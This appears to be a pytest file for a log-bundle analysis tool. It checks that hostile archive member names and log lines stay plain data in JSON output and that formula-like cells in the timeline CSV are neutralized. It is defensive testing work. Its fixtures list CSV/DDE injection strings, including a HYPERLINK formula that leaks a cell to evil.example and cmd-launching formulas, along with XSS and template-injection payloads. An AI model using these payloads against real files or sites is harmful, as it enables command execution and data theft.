"""Payloads in member names and log lines (security.md 5.4, 5.5, 8 #27-#29): the JSON report keeps them as
plain data, and no cell of the timeline CSV starts like a spreadsheet formula. (HTML escaping is tested
with the HTML report.)"""

from __future__ import annotations

import csv

from hostile_corpus import GOOD_LOG, GOOD_PATH, Sandbox, assert_good_log_analyzed, json_report, run_cli

from tests.intake.intake_fixtures import tar_bytes

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1", "\uff20SUM(A1)"]
MARKUP = ["<script>document.body.dataset.pwned=1</script>", '"><img src=x onerror=alert(1)>',
          "javascript:alert(1)", "</script><!--", "{{7*7}}", "[link=https://evil.example]x[/link]"]
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _log(payloads: list[str]) -> bytes:
    lines = [f"2024-01-05T12:00:{i:02d}.000000Z ERROR ExtHandler {p}\n" for i, p in enumerate(payloads, 10)]
    lines += [f"2024-01-05T12:01:{i:02d}.000000Z ERROR {p} {p}\n" for i, p in enumerate(payloads, 10)]
    return GOOD_LOG + "".join(lines).encode()


def test_payloads_stay_data_in_json(sandbox: Sandbox) -> None:
    names = {f"var/log/{p.replace('/', '_')}/waagent.log": _log(MARKUP) for p in MARKUP}
    bundle = sandbox.write("markup.tgz", tar_bytes({GOOD_PATH: GOOD_LOG, **names}))
    report = json_report(run_cli([str(bundle), "--format", "json"], sandbox))
    assert_good_log_analyzed(report)
    paths = {r["path"] for r in report["sources"]}
    assert set(names) <= paths  # names kept verbatim, as JSON strings


def test_formula_payloads_are_neutralized_in_the_timeline_csv(sandbox: Sandbox) -> None:
    entries = {GOOD_PATH: GOOD_LOG, "=HYPERLINK(x)/var/log/waagent.log": _log(FORMULAS),
               "var/log/waagent.log.1": _log(FORMULAS)}
    bundle = sandbox.write("formulas.tgz", tar_bytes(entries))
    out = sandbox.out / "timeline.csv"
    proc = run_cli(["timeline", str(bundle), "-o", str(out), "--format", "csv"], sandbox)
    assert proc.returncode == 0, proc.stderr
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) > 2 * len(FORMULAS)
    offending = [c for c in cells if c.startswith(_TRIGGERS)]
    assert offending == []
    for payload in FORMULAS:
        assert any(payload.strip() in c for c in cells), payload  # kept as data, prefixed with '
